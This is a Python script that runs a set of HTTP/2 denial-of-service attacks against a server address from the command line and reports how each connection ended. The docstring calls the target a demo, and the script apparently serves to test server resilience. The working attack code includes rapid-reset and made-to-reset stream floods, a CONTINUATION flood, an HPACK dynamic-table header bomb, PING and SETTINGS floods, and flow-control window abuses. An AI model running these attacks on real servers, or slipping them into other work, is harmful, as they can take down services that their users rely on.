"""Plays the attack argv[2] on ten connections to the demo at argv[1], and prints how each ended.

"GOAWAY" and its code, "reset" without one, a status where the server answers, "stalled" where it stops reading, "open"
where nothing happens.
"""

import socket
import sys

from h2.errors import ErrorCodes
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def head(path="/", method="GET", *headers):
    fields = [(":method", method), (":scheme", "http"), (":authority", "test"), (":path", path), *headers]
    return Encoder().encode(fields, huffman=False)


class Connection:
    def __init__(self, address, settings=None):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=20)
        self.buffer = b""
        self.send(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())

    def send(self, data):
        """False when the server has hung up."""
        try:
            self.socket.sendall(data)
            return True
        except ConnectionError:
            return False

    def request(self, stream, block=None, *flags):
        return HeadersFrame(stream, block or head(), flags=["END_HEADERS", *(flags or ["END_STREAM"])]).serialize()

    def frames(self):
        while True:
            while len(self.buffer) < 9 or len(self.buffer) < 9 + int.from_bytes(self.buffer[:3], "big"):
                came = self.socket.recv(65_536)
                if not came:
                    return
                self.buffer += came
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            frame.parse_body(memoryview(self.buffer[9 : 9 + length]))
            self.buffer = self.buffer[9 + length :]
            yield frame

    def end(self):
        """How the server answers, or ends the connection."""
        try:
            for frame in self.frames():
                if isinstance(frame, GoAwayFrame):
                    return f"GOAWAY {ErrorCodes(frame.error_code).name}"
                if isinstance(frame, HeadersFrame):
                    return status(frame)
        except ConnectionError:
            pass
        return "reset"

    def stays_open(self, seconds):
        self.socket.settimeout(seconds)
        try:
            for frame in self.frames():
                if isinstance(frame, GoAwayFrame):
                    return f"GOAWAY {ErrorCodes(frame.error_code).name}"
        except TimeoutError:
            return "open"
        except ConnectionError:
            pass
        return "reset"

    def floods(self, data):
        """Sends without reading until the server has had enough."""
        self.socket.settimeout(1)
        try:
            for _ in range(10_000):
                self.socket.sendall(data)
        except TimeoutError:
            return "stalled"
        except ConnectionError:
            self.socket.settimeout(20)
            return self.end()
        return "endless"


def status(frame):
    from hpack import Decoder

    return dict(Decoder().decode(frame.data))[":status"]


def rapid_reset(connection):
    for first in range(1, 20_000, 200):
        streams = range(first, first + 200, 2)
        cut = lambda stream: RstStreamFrame(stream, error_code=ErrorCodes.CANCEL).serialize()
        block = head("/sleep/60000")
        if not connection.send(b"".join(connection.request(stream, block) + cut(stream) for stream in streams)):
            break
    return connection.end()


def made_to_reset(connection):
    """Each stream is opened and ended well, and then data after its end makes the server reset it."""
    block = head("/sleep/60000")
    for stream in range(1, 40_000, 2):
        spoilt = connection.request(stream, block) + DataFrame(stream, b"tick").serialize()
        if not connection.send(spoilt):
            break
    return connection.end()


def continuation_flood(connection):
    connection.send(HeadersFrame(1, head(), flags=["END_STREAM"]).serialize())
    field = b"\0\1x\x7f\x81\x07" + b"y" * 256
    block = ContinuationFrame(1, field * 40).serialize()
    for _ in range(5_000):
        if not connection.send(block):
            break
    return connection.end()


def header_bomb(connection):
    """One field of 4,000 bytes in the dynamic table, and then a byte for each time it is meant."""
    fields = b"\x40\1x" + b"\x7f\xa1\x1e" + b"y" * 4_000 + b"\xbe" * 10_000
    connection.send(connection.request(1, head() + fields))
    return connection.end()


def window_overflow(connection):
    connection.send(WindowUpdateFrame(0, window_increment=2**31 - 1).serialize() * 2)
    return connection.end()


def closed_window(connection):
    connection.send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize())
    for stream in range(1, 101, 2):
        connection.send(connection.request(stream, head("/hello/" + "a" * 5_000)))
    return connection.stays_open(1)


def window_by_bytes(connection):
    connection.send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize())
    connection.send(connection.request(1, head("/hello/" + "a" * 1_000)))
    came, said = 0, None
    for frame in connection.frames():
        if isinstance(frame, HeadersFrame):
            said = status(frame)
        elif isinstance(frame, DataFrame):
            came += len(frame.data)
            if "END_STREAM" in frame.flags:
                break
        elif isinstance(frame, GoAwayFrame):
            return f"GOAWAY {ErrorCodes(frame.error_code).name}"
        else:
            continue
        connection.send(WindowUpdateFrame(1, window_increment=1).serialize())
    return said if came == 1_007 else f"{came} bytes"


def ping_flood(connection):
    return connection.floods(PingFrame(0, opaque_data=b"12345678").serialize() * 1_000)


def settings_flood(connection):
    return connection.floods(SettingsFrame(0, settings={}).serialize() * 1_000)


def idle_data(connection):
    connection.send(DataFrame(1, b"tick").serialize())
    return connection.end()


def even_stream(connection):
    connection.send(connection.request(2))
    return connection.end()


def empty_data(connection):
    typed = ("content-type", "application/json")
    connection.send(HeadersFrame(1, head("/echo", "POST", typed), flags=["END_HEADERS"]).serialize())
    for _ in range(200):
        if not connection.send(DataFrame(1, b"").serialize() * 1_000):
            return connection.end()
    connection.send(DataFrame(1, b"", flags=["END_STREAM"]).serialize())
    return connection.end()


def main(address, name):
    for _ in range(10):
        print(globals()[name](Connection(address)), flush=True)


main(*sys.argv[1:])
